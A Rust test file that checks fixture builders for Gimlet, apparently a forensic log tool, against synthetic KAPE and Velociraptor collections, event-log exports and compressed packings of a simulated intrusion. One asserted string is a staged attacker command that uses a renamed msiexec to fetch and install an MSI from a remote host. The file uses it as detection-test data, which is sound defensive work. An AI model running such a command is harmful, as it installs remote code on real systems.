//! The builders of collections and exports make what they say: checked by plain looking, so that
//! a test that uses them tests Gimlet and not them.

mod made;

use made::generator::story::Log;
use made::{collections, exports, intrusion_events, packing};
use std::fs;
use std::io::{Cursor, Read as _};

#[test]
fn a_kape_tree_has_logs_a_shadow_copy_hives_and_its_own_logs() {
    let folder = tempfile::tempdir().unwrap();
    let contents = collections::kape(folder.path());
    assert_eq!(
        contents.hosts,
        ["web-02.corp.example", "ws-017.corp.example"]
    );
    assert!(contents.duplicates > 20);
    let rows: Vec<&str> = contents.rows_text.lines().collect();
    assert!(rows.iter().any(|row| row.contains("nvupd.exe")));
    assert!(rows.iter().any(|row| row.contains("EndpointGuard")));
    for path in contents.logs.iter().chain(&contents.others) {
        assert!(folder.path().join(path).is_file(), "{path}");
    }
    for path in &contents.logs {
        let mut parser = evtx::EvtxParser::from_path(folder.path().join(path)).unwrap();
        assert!(parser.records_json().all(|record| record.is_ok()), "{path}");
    }
    let hive = fs::read(folder.path().join(&contents.others[0])).unwrap();
    assert!(hive.starts_with(b"regf"));
}

#[test]
fn a_velociraptor_zip_has_escaped_names_and_a_zip_inside() {
    let (bytes, contents) = collections::velociraptor();
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let names: Vec<String> = zip
        .file_names()
        .map(|name| name.unwrap().into_owned())
        .collect();
    for name in [
        "uploads/auto/C%3A/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%254Operational.evtx",
        "uploads/auto/C%3A/Windows/System32/winevt/Logs/Security.evtx",
        "uploads/auto/C%3A/Backup/eventlogs.zip",
        "results/Windows.KapeFiles.Targets%2FUploads.json",
        "uploads.json",
        "client_info.json",
    ] {
        assert!(names.iter().any(|n| n == name), "{name}");
    }
    let mut inner = Vec::new();
    let mut nested = zip
        .by_name("uploads/auto/C%3A/Backup/eventlogs.zip")
        .unwrap();
    nested.read_to_end(&mut inner).unwrap();
    let mut inner = zip::ZipArchive::new(Cursor::new(inner)).unwrap();
    assert!(inner.by_name("Archive-Security-2022-06-08.evtx").is_ok());
    // The intrusion in both logs, the renamed msiexec, and the update of the 8th from the inner zip.
    assert_eq!(contents.rows_text.lines().count(), 6);
    assert_eq!(
        contents.rows_text.matches("\"user\":\"iis-app\"").count(),
        4
    );
    assert_eq!(
        (contents.hosts.as_slice(), contents.duplicates),
        (&["web-02.corp.example".to_owned()][..], 0)
    );
}

#[test]
fn exports_hold_every_event() {
    let events = intrusion_events(Log::Sysmon);
    let count = events.len();
    let wide = exports::utf16_wevtutil(&events);
    assert!(wide.starts_with(&[0xff, 0xfe]));
    let units: Vec<u16> = wide
        .chunks(2)
        .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
        .collect();
    let text = String::from_utf16(&units).unwrap();
    assert_eq!(text.matches("</Event>\r\n").count(), count);
    for bytes in [
        exports::events_element(&events),
        exports::events_on_one_line(&events),
        exports::syslog_xml(&events),
        exports::splunk_json(&events),
        exports::splunk_raw_json(&events),
        exports::splunk_csv(&events),
    ] {
        let text = String::from_utf8(bytes).unwrap();
        assert_eq!(text.matches("</Event>").count(), count);
        assert_eq!(
            text.matches("nvupd.exe /q /i http://203.0.113.9:9900/st2.msi")
                .count(),
            1
        );
    }
    let rows = String::from_utf8(exports::velociraptor_json(&events)).unwrap();
    assert_eq!(rows.lines().count(), count);
    let mut table = csv::Reader::from_reader(Cursor::new(exports::splunk_csv(&events)));
    assert_eq!(table.records().map(Result::unwrap).count(), count);
}

#[test]
fn packings_unpack_to_the_same() {
    let plain = exports::splunk_raw_json(&intrusion_events(Log::Security));
    let unpacked = |packed: &[u8]| {
        let mut plain = Vec::new();
        flate2::read::MultiGzDecoder::new(packed)
            .read_to_end(&mut plain)
            .unwrap();
        plain
    };
    assert!(unpacked(&packing::gz(&plain)) == plain);
    assert!(unpacked(&packing::gz_of_two_streams(&plain)) == plain);
    assert!(zstd::decode_all(packing::zst(&plain).as_slice()).unwrap() == plain);
    let members = [("logs/a.ndjson".to_owned(), plain.clone())];
    let tar = unpacked(&packing::tar_gz(&members));
    let mut archive = tar::Archive::new(tar.as_slice());
    let mut entry = archive.entries().unwrap().next().unwrap().unwrap();
    let mut content = Vec::new();
    entry.read_to_end(&mut content).unwrap();
    assert!(content == plain);
}
